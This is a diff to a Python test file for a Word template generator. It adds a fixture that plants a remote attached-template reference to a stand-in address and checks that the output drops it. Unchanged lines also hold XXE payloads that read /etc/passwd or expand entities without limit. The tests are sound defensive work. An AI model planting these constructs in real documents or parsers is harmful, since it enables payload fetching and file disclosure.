@@ -6,8 +6,10 @@ files that only a template could be. Each in a process with limits.
 
 from __future__ import annotations
 
+import zipfile
 from collections.abc import Callable
 from functools import partial
+from io import BytesIO
 from typing import Any
 
 import pytest
@@ -15,6 +17,7 @@ import pytest
 from generator.checking import problems_of_template
 from generator.compiled import compile_template
 from generator.fill import fill
+from generator.issue import word_file
 from generator.word.package import PARTS_MAX
 from inconfidence.core.errors import InConfidenceError
 from tests.corpus_word.file import OFFICE, code, docx, mark, para, run, zipped
@@ -78,6 +81,8 @@ TAGS = {
     "an answer to nothing": "{{ 1 / 0 }}",
 }
 
+AWAY = "http://192.0.2.1/away.dotm"
+PACKAGE = "http://schemas.openxmlformats.org/package/2006"
 BODY, MAIN = "word/document.xml", "word/_rels/document.xml.rels"
 ENTITY = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
 LAUGHS = b'<!DOCTYPE w [<!ENTITY a "ha">' + b"".join(
@@ -124,6 +129,33 @@ FILES: dict[str, Callable[[], bytes]] = {
     "macros": lambda: zipped({"word/vbaProject.bin": b"macro", BODY: "<x/>"}),
     "a file of Word before 2007": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000),
 }
+
+
+def with_remote_template() -> bytes:
+    """Return a Word file that says it was begun from a template at an address, as Word writes it."""
+    away = f'Id="rIdAway" TargetMode="External" Target="{AWAY}" Type="{OFFICE}/attachedTemplate"'
+    with zipfile.ZipFile(BytesIO(docx(TAG))) as whole:
+        parts: dict[str, bytes | str] = {name: whole.read(name) for name in whole.namelist()}
+    parts["word/_rels/settings.xml.rels"] = (
+        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship {away}/></Relationships>'
+    )
+    named = f'<w:attachedTemplate r:id="rIdAway" xmlns:r="{OFFICE}"/></w:settings>'
+    parts["word/settings.xml"] = bytes(parts["word/settings.xml"]).replace(b"</w:settings>", named.encode())
+    return zipped(parts)
+
+
+def test_a_remote_template_goes_to_nobody() -> None:
+    """Half the Word files of an office name one, so it is no fault; it is not fetched, and no paper carries it on."""
+    hostile = with_remote_template()
+    with zipfile.ZipFile(BytesIO(hostile)) as whole:
+        assert AWAY in whole.read("word/_rels/settings.xml.rels").decode()
+
+    issued = word_file(template(docx=hostile), view(seen="x"))
+
+    with zipfile.ZipFile(BytesIO(issued)) as whole:
+        content = b"".join(map(whole.read, whole.namelist()))
+    assert b"192.0.2.1" not in content
+    assert b"attachedTemplate" not in content
 
 
 @pytest.mark.parametrize("name", TAGS)
